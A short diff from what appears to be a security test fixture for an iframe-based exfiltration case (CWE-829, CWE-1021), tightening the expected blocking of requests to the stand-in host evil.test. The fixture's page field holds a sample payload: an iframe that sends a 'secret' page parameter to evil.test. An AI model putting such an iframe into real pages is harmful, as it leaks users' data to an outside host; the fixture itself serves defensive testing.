@@ -14,6 +14,6 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["CWE-829", "CWE-1021"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/frame*"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<h1>Status</h1><iframe width=600 height=200 src='http://evil.test/frame?page=secret'></iframe>",
 }
